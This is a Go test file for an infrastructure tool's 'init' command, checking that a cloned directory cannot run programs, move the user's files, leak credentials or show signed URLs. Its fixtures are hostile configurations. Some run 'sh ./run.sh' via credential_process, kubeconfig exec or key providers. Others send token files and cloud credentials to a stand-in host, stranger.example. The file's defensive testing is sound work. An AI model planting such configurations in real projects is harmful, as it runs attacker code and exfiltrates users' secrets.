//go:build unix

package install_test

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tombolo-iac/tombolo/internal/fetch/fetchtest"
)

// TestServersCannotMoveFilesOfTheUser has web pages and a registry name local folders as the package, in every
// notation.
func TestServersCannotMoveFilesOfTheUser(t *testing.T) {
	own := program(t)
	for i, pattern := range []string{
		"file::https://DIR/home//folder", "file::http://DIR/home//folder", "file::https:///DIR/home//folder",
		"file://DIR/home//folder", "file::DIR/home//folder",
		"file::ssh://x/DIR/home//folder", "git::file://DIR/home//folder", "git::DIR/home//folder",
		"https::file://DIR/home//folder", "DIR/home/folder",
	} {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			t.Parallel()
			net, registry := newInternet(t), &fetchtest.Modules{}
			s := newSite(t, own, net.Net)
			s.surroundings()
			message := strings.ReplaceAll(pattern, "DIR", s.dir)
			registry.Add("corp/net/aws", "1.0.0", message)
			net.Serve("modules.example", registry)
			net.Answer("web.example", "/page", func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("X-Terraform-Get", message)
			})
			net.Answer("web.example", "/second", func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("X-Terraform-Get", "https://web.example/page")
			})
			before := s.tree("home")
			for _, source := range []string{"https://web.example/page", "https://web.example/second",
				"https://web.example/page//sub", "modules.example/corp/net/aws"} {
				s.remove("work")
				s.write("work/main.tf", calls("x", source))
				output, code := s.run("init")
				if code == 0 {
					t.Errorf("%s from %s is installed: %s", message, source, output)
				}
				s.remove("work/main.tf", "work/.terraform")
				if output, code := s.run("init", "-from-module="+source); code == 0 {
					t.Errorf("%s from %s is copied: %s", message, source, output)
				}
			}
			if diff := cmp.Diff(before, s.tree("home")); diff != "" {
				t.Errorf("%s changes files of the user: %s", message, diff)
			}
		})
	}
}

// A cloned repository may contain a provider with a command to prepare it. init asks for approval, and runs nothing
// without an answer.
func TestInitDoesNotPrepareProvidersOfTheDirectory(t *testing.T) {
	s := newSite(t, program(t), newInternet(t).Net)
	s.env = append(s.env, "XDG_CACHE_HOME="+filepath.Join(s.dir, "cache"))
	folder := "work/terraform.d/plugins/example.com/corp/thing/1.0.0/" + here + "/"
	s.write("work/main.tf", onlyThing)
	s.write(folder+"terraform-provider-thing", "#!/bin/sh\necho ran >>DIR/ran\nexit 1\n")
	s.write(folder+"tombolo-provider.json", `{"protocol": 1, "name": "thing", "command": ["true"], "prepare": ["sh", `+
		`"-c", "echo ran >>DIR/ran"], "schema": {}}`)
	output, code := s.run("init")
	has(t, output, "Provider program was not prepared", "echo ran")
	if ran := s.tree("ran"); code != 0 || len(ran) > 0 {
		t.Errorf("init exits with %d, ran: %v\n%s", code, ran, output)
	}
	// The lock file has the provider now, so running init again is a decision of the user.
	if output, code := s.run("init"); code != 0 || len(s.tree("ran")) == 0 {
		t.Errorf("the second init exits with %d and prepares nothing: %s", code, output)
	}
	// A provider that does not match the lock file is not installed, with any manifest.
	s.remove("ran", "cache", "work/.terraform")
	s.write(folder+"other", "x")
	if output, code := s.run("init"); code == 0 || len(s.tree("ran")) > 0 {
		t.Errorf("init exits with %d, ran: %v\n%s", code, s.tree("ran"), output)
	}
}

// directories name programs in every way in which a backend or encryption settings in files of the directory can.
var directories = map[string]map[string]string{
	"program": {"main.tf": `terraform {
  backend "program" {
    command = ["sh", "./run.sh"]
  }
}`},
	"s3, configuration": {"main.tf": `terraform {
  backend "s3" {
    bucket              = "b"
    key                 = "k"
    region              = "eu-central-1"
    max_retries         = 0
    endpoints           = { s3 = "http://127.0.0.1:1" }
    shared_config_files = ["./aws"]
  }
}`, "aws": "[default]\ncredential_process = sh ./run.sh\n"},
	"s3, credentials, in JSON": {"main.tf.json": `{"terraform": {"backend": {"s3": {"bucket": "b", "key": "k",
  "region": "eu-central-1", "max_retries": 0, "endpoints": {"s3": "http://127.0.0.1:1"}, "profile": "x",
  "shared_credentials_files": ["DIR/work/sub/../aws"]}}}}`, "sub/x": "",
		"aws": "[x]\n  CREDENTIAL_PROCESS=sh ./run.sh\n"},
	"kubernetes, block": {"main.tf": `terraform {
  backend "kubernetes" {
    secret_suffix = "x"
    host          = "https://127.0.0.1:1"
    exec {
      api_version = "client.authentication.k8s.io/v1"
      command     = "sh"
      args        = ["./run.sh"]
    }
  }
}`},
	"kubernetes, file": {"main.tf": `terraform {
  backend "kubernetes" {
    secret_suffix = "x"
    config_paths  = ["./kubectl"]
  }
}`, "kubectl": `apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "https://127.0.0.1:1"}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
users:
  - name: u
    user:
      exec: {apiVersion: client.authentication.k8s.io/v1, command: sh, args: [./run.sh], interactiveMode: Never}
`},
	"encryption, aws_kms": {"main.tf": `terraform {
  encryption {
    key_provider "aws_kms" "x" {
      kms_key_id          = "k"
      key_spec            = "AES_256"
      region              = "eu-central-1"
      max_retries         = 0
      shared_config_files = ["./aws"]
    }
    method "aes_gcm" "x" {
      keys = key_provider.aws_kms.x
    }
    state {
      method = method.aes_gcm.x
    }
  }
}`, "aws": "[default]\ncredential_process = sh ./run.sh\n", "terraform.tfstate": sealed},
	"encryption": {"main.tf": `terraform {
  encryption {
    key_provider "external" "x" {
      command = ["sh", "./run.sh"]
    }
    method "aes_gcm" "x" {
      keys = key_provider.external.x
    }
    state {
      method = method.aes_gcm.x
    }
  }
}`, "terraform.tfstate": sealed},
}

// sealed is a state that can be decrypted with the key.
const sealed = `{"serial": 1, "lineage": "x", "meta": {"key_provider.external.x": "e30="},
  "encrypted_data": "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", "encryption_version": "v0"}`

// A cloned directory may name a program in an unexpected place. Init asks for approval, whether the recorded backend is
// from this user or from the directory, and runs the programs that the user has approved.
func TestInitDoesNotRunProgramsNamedByTheDirectory(t *testing.T) {
	own, net := program(t), newInternet(t)
	for name, files := range directories {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newSite(t, own, net.Net)
			s.env = append(s.env, "XDG_CACHE_HOME="+filepath.Join(s.dir, "cache"))
			s.write("work/run.sh", "echo ran >>DIR/ran\nexit 1\n")
			for file, content := range files {
				s.write("work/"+file, content)
			}
			for _, line := range []string{"init", "init", "init -input=false", "init -reconfigure",
				"init -backend=false", "init -json"} {
				output, code := s.run(strings.Fields(line)...)
				if strings.HasPrefix(name, "encryption") && line == "init -backend=false" {
					code = 0 // without encryption settings, it succeeds
				} else {
					has(t, output, "was not run", "sh ./run.sh")
				}
				if ran := s.tree("ran"); code != 0 || len(ran) > 0 {
					t.Fatalf("%s exits with %d, ran: %v\n%s", line, code, ran, output)
				}
			}
			agree := s.command("init")
			agree.Stdin = strings.NewReader("yes\n")
			if output, err := agree.CombinedOutput(); name != "program" && len(s.tree("ran")) == 0 {
				t.Errorf("after an agreement nothing runs: %v\n%s", err, output)
			}
			s.remove("ran", "work/.terraform")
			if output, _ := s.run("init"); len(s.tree("ran")) == 0 {
				t.Errorf("the agreement is forgotten:\n%s", output)
			}
			s.remove("ran", "cache")
			if output, _ := s.run("init"); len(s.tree("ran")) > 0 {
				t.Errorf("the directory keeps the agreement:\n%s", output)
			}
		})
	}
}

// senders name, in files of the directory, a file of the user and a service that receives its content.
var senders = map[string]map[string]string{
	"s3, block": {"main.tf": `terraform {
  backend "s3" {
    bucket      = "b"
    key         = "k"
    region      = "eu-central-1"
    max_retries = 0
    endpoints   = { sts = "https://stranger.example" }
    assume_role_with_web_identity = {
      role_arn                = "arn:aws:iam::1:role/x"
      web_identity_token_file = "../secret"
    }
  }
}`},
	"s3, profile": {"main.tf": `terraform {
  backend "s3" {
    bucket              = "b"
    key                 = "k"
    region              = "eu-central-1"
    max_retries         = 0
    shared_config_files = ["./aws"]
  }
}`, "aws": "[default]\nrole_arn = arn:aws:iam::1:role/x\nweb_identity_token_file = DIR/secret\n"},
	"s3, a link": {"main.tf": `terraform {
  backend "s3" {
    bucket                   = "b"
    key                      = "k"
    region                   = "eu-central-1"
    max_retries              = 0
    profile                  = "x"
    shared_credentials_files = ["DIR/work/aws"]
  }
}`, "aws": "[x]\nrole_arn = arn:aws:iam::1:role/x\nWeb_identity_token_file = ./link\n"},
	"kubernetes": {"main.tf": `terraform {
  backend "kubernetes" {
    secret_suffix = "x"
    config_path   = "./kubectl"
  }
}`, "kubectl": `apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "https://stranger.example", insecure-skip-tls-verify: true}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
users: [{name: u, user: {tokenFile: ../secret}}]
`},
	"azurerm": {"main.tf": `terraform {
  backend "azurerm" {
    storage_account_name    = "account"
    container_name          = "states"
    key                     = "k"
    tenant_id               = "00000000-0000-0000-0000-000000000001"
    client_id               = "00000000-0000-0000-0000-000000000002"
    use_azuread_auth        = true
    metadata_host           = "stranger.example"
    client_secret_file_path = "../secret"
  }
}`},
	"openbao": {"main.tf": `terraform {
  encryption {
    key_provider "openbao" "x" {
      address  = "https://stranger.example"
      key_name = "k"
    }
    method "aes_gcm" "x" {
      keys = key_provider.openbao.x
    }
    state {
      method = method.aes_gcm.x
    }
  }
}`, "terraform.tfstate": sealed},
	"gcs": {"main.tf": `terraform {
  backend "gcs" {
    bucket      = "b"
    credentials = "login.json"
  }
}`, "login.json": `{"type": "external_account", "audience": "//iam.googleapis.com/x",
  "token_url": "https://stranger.example", "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
  "credential_source": {"file": "DIR/secret"}}`},
}

// mineOfKubernetes is the user's configuration file of kubectl.
const mineOfKubernetes = `apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "https://127.0.0.1:1"}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
users: [{name: u, user: {token: hunter2}}]
`

// lenders name, in files of the directory, a service that receives credentials from the environment.
var lenders = map[string]struct {
	files map[string]string
	env   []string
}{
	"gcs": {map[string]string{"main.tf": `terraform {
  backend "gcs" {
    bucket                  = "b"
    storage_custom_endpoint = "https://stranger.example/storage/v1/"
  }
}`}, []string{"GOOGLE_OAUTH_ACCESS_TOKEN=hunter2"}},
	"gcs, domain": {map[string]string{"main.tf": `terraform {
  backend "gcs" {
    bucket          = "b"
    universe_domain = "stranger.example"
  }
}`}, []string{"GOOGLE_OAUTH_ACCESS_TOKEN=hunter2"}},
	"s3": {map[string]string{"main.tf": `terraform {
  backend "s3" {
    bucket         = "b"
    key            = "k"
    region         = "eu-central-1"
    use_path_style = true
    encrypt        = true
    max_retries    = 0
    endpoints      = { s3 = "https://stranger.example" }
  }
}`}, []string{"AWS_ACCESS_KEY_ID=x", "AWS_SECRET_ACCESS_KEY=y", "AWS_SSE_CUSTOMER_KEY=hunter2" +
		strings.Repeat("A", 36) + "="}},
	"azurerm": {map[string]string{"main.tf": `terraform {
  backend "azurerm" {
    storage_account_name = "account"
    container_name       = "states"
    key                  = "k"
    use_azuread_auth     = true
    metadata_host        = "stranger.example"
  }
}`}, []string{"ARM_CLIENT_SECRET=hunter2", "ARM_TENANT_ID=00000000-0000-0000-0000-000000000001",
		"ARM_CLIENT_ID=00000000-0000-0000-0000-000000000002"}},
	"azurerm, request": {map[string]string{"main.tf": `terraform {
  backend "azurerm" {
    storage_account_name = "account"
    container_name       = "states"
    key                  = "k"
    use_azuread_auth     = true
    use_oidc             = true
    oidc_request_url     = "https://stranger.example/token"
    metadata_host        = "stranger.example"
  }
}`}, []string{"ACTIONS_ID_TOKEN_REQUEST_TOKEN=hunter2", "ARM_TENANT_ID=00000000-0000-0000-0000-000000000001",
		"ARM_CLIENT_ID=00000000-0000-0000-0000-000000000002"}},
	"oss": {map[string]string{"main.tf": `terraform {
  backend "oss" {
    bucket   = "b"
    region   = "cn-beijing"
    endpoint = "stranger.example"
  }
}`}, []string{"ALICLOUD_ACCESS_KEY=x", "ALICLOUD_SECRET_KEY=y", "ALICLOUD_SECURITY_TOKEN=hunter2"}},
	"oss, region": {map[string]string{"main.tf": `terraform {
  backend "oss" {
    bucket = "b"
    region = "x.stranger.example/"
  }
}`}, []string{"ALICLOUD_ACCESS_KEY=x", "ALICLOUD_SECRET_KEY=y", "ALICLOUD_SECURITY_TOKEN=hunter2"}},
	"kubernetes": {map[string]string{"main.tf": `terraform {
  backend "kubernetes" {
    secret_suffix = "x"
    host          = "https://stranger.example"
    insecure      = true
  }
}`}, []string{"KUBE_CONFIG_PATH=DIR/kubectl"}},
}

// A cloned directory may have a file of the user sent to a foreign service, as a token. Init asks first.
func TestInitSendsNoFilesNamedByTheDirectory(t *testing.T) {
	own := program(t)
	for name, files := range senders {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			sending(t, own, files, nil)
		})
	}
}

// TestInitSendsNoCredentialsToNamedServices: a cloned directory may name another address for a cloud for which the user
// has credentials in variables or files. Init asks first.
func TestInitSendsNoCredentialsToNamedServices(t *testing.T) {
	own := program(t)
	for name, l := range lenders {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			sending(t, own, l.files, l.env)
		})
	}
}

// sending runs init in a directory with files that would send the word "hunter2" to a foreign service.
func sending(t *testing.T, own string, files map[string]string, env []string) {
	var got atomic.Int64
	listen := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		if strings.Contains(fmt.Sprint(r.Header, r.URL, string(body)), "hunter2") {
			got.Add(1)
		}
		if !strings.Contains(r.URL.Path, "/metadata/") && !strings.Contains(r.URL.Path, "/.well-known/") {
			w.WriteHeader(http.StatusForbidden)
		}
		const here = "https://stranger.example/"
		const tenant = here + "00000000-0000-0000-0000-000000000001/"
		fmt.Fprint(w, `{"authentication": {"loginEndpoint": "`+here+`", "audiences": ["x"]}, `+
			`"resourceManager": "`+here+`", "suffixes": {"storage": "stranger.example"}, "issuer": "`+tenant+
			`v2.0", "token_endpoint": "`+tenant+`token", "authorization_endpoint": "`+tenant+`authorize"}`)
	})
	net := newInternet(t)
	for _, host := range []string{"stranger.example", "b.stranger.example", "storage.stranger.example",
		"b.oss-x.stranger.example"} {
		net.Serve(host, listen)
	}
	net.Serve("sts.eu-central-1.amazonaws.com", listen) // the block may name a proxy
	s := newSite(t, own, net.Net)
	s.env = append(s.env, "XDG_CACHE_HOME="+filepath.Join(s.dir, "cache"),
		"AWS_EC2_METADATA_DISABLED=true", "BAO_TOKEN=hunter2")
	for _, variable := range env {
		s.env = append(s.env, strings.ReplaceAll(variable, "DIR", s.dir))
	}
	s.write("kubectl", mineOfKubernetes)
	s.write("secret", "hunter2")
	for file, content := range files {
		s.write("work/"+file, content)
	}
	if err := os.Symlink("../secret", filepath.Join(s.dir, "work/link")); err != nil {
		t.Skipf("needs a system with symbolic links: %s", err)
	}
	for _, line := range []string{"init", "init -input=false", "init -reconfigure", "init -json"} {
		output, code := s.run(strings.Fields(line)...)
		has(t, output, "was not run", "sends a token")
		if code != 0 || got.Load() > 0 || strings.Contains(output, "hunter2") {
			t.Fatalf("%s exits with %d, sent: %d\n%s", line, code, got.Load(), output)
		}
	}
	agree := s.command("init")
	agree.Stdin = strings.NewReader("yes\n")
	if output, _ := agree.CombinedOutput(); got.Load() == 0 {
		t.Errorf("after an agreement nothing is sent:\n%s", output)
	}
}

// TestWaitingForALockIsReportedAndInterruptible holds the lock of another run, and interrupts the run that waits for
// it.
func TestWaitingForALockIsReportedAndInterruptible(t *testing.T) {
	s := newSite(t, program(t), newPlantedNet(t).Net)
	s.write("work/main.tf", calls("vpc", "https://web.example/vpc.zip"))
	modules := filepath.Join(s.dir, "work/.terraform/modules")
	if err := os.MkdirAll(modules, 0o755); err != nil {
		t.Fatal(err)
	}
	held, err := os.Open(modules)
	if err != nil {
		t.Fatal(err)
	}
	defer held.Close()
	if err := syscall.Flock(int(held.Fd()), syscall.LOCK_EX); err != nil {
		t.Skipf("needs locks of files: %s", err)
	}
	command := s.command("init")
	out := &watched{words: "Another process is installing modules", seen: make(chan struct{})}
	command.Stdout, command.Stderr = out, out
	if err := command.Start(); err != nil {
		t.Fatal(err)
	}
	ended := make(chan struct{})
	go func() { _ = command.Wait(); close(ended) }()
	select {
	case <-out.seen:
	case <-ended:
		t.Fatalf("it does not wait: %s", out.text.String())
	}
	if err := command.Process.Signal(os.Interrupt); err != nil {
		t.Error(err)
	}
	<-ended // otherwise programtest.Bounded ends it
	if code := command.ProcessState.ExitCode(); code != 1 {
		t.Errorf("it exits with %d: %s", code, out.text.String())
	}
	for name := range s.tree("work/.terraform/modules") {
		if name != "work/.terraform/modules" {
			t.Errorf("%s is there", name)
		}
	}
}

// watched waits until a text has been written.
type watched struct {
	words string
	seen  chan struct{}
	once  sync.Once
	text  bytes.Buffer
}

func (w *watched) Write(p []byte) (int, error) {
	n, err := w.text.Write(p)
	if strings.Contains(w.text.String(), w.words) {
		w.once.Do(func() { close(w.seen) })
	}
	return n, err
}

func TestPasswordsOfSourcesAreNotShown(t *testing.T) {
	f := newForge(t)
	s := newSite(t, program(t), f.Net)
	s.write("work/main.tf", calls("x", "git::https://me:s3cret@git.example/net.git?ref=v1"))
	for _, line := range []string{"init", "modules", "modules -json", "get -update", "validate"} {
		if output, code := s.run(strings.Fields(line)...); code != 0 || strings.Contains(output, "s3cret") {
			t.Errorf("%s exits with %d: %s", line, code, output)
		}
	}
	info, err := os.Stat(filepath.Join(s.dir, "work/.terraform/modules/modules.json"))
	if err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("the record of modules has the mode %v (%v)", info.Mode(), err)
	}
	s.write("work/main.tf", calls("x", "git::https://me:s3cret@git.example/other.git"))
	for _, line := range []string{"validate", "init"} {
		output, code := s.run(strings.Fields(line)...)
		// The source line itself is shown as it is in the file.
		output = strings.ReplaceAll(output, `source = "git::https://me:s3cret@git.example/other.git"`, "")
		if code == 0 || strings.Contains(output, "s3cret") {
			t.Errorf("%s exits with %d: %s", line, code, output)
		}
	}
}

// TestSignedURLsAreNotShown has servers name packages at addresses with signatures and tokens, which every kind of
// error message could contain.
func TestSignedURLsAreNotShown(t *testing.T) {
	own := program(t)
	const query = "?X-Amz-Signature=c4nary-one&access_token=c4nary-two"
	answers := map[string]http.HandlerFunc{
		"forbidden":  func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusForbidden) },
		"a page":     text("<html>no</html>"),
		"no archive": text("x"),
		"fine":       text(string(zipOf("main.tf"))),
		"elsewhere": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "http://plain.example/a.zip"+query, http.StatusFound)
		},
	}
	for name, answer := range answers {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			net, registry := newInternet(t), &fetchtest.Modules{}
			s := newSite(t, own, net.Net)
			registry.Add("corp/net/aws", "1.0.0", "https://cdn.example/a.zip"+query)
			net.Serve("modules.example", registry)
			net.Answer("cdn.example", "/a.zip", answer)
			net.Answer("web.example", "/page", func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("X-Terraform-Get", "https://cdn.example/a.zip"+query)
			})
			for _, source := range []string{"https://web.example/page", "modules.example/corp/net/aws"} {
				s.remove("work")
				s.write("work/main.tf", calls("x", source))
				for _, line := range []string{"init", "get -update", "modules -json", "validate"} {
					output, code := s.run(strings.Fields(line)...)
					if strings.Contains(flat(output), "c4nary") {
						t.Errorf("%s of %s exits with %d: %s", line, source, code, output)
					}
					if line == "init" && (code == 0) != (name == "fine") {
						t.Errorf("%s of %s exits with %d: %s", line, source, code, output)
					}
				}
			}
		})
	}
}
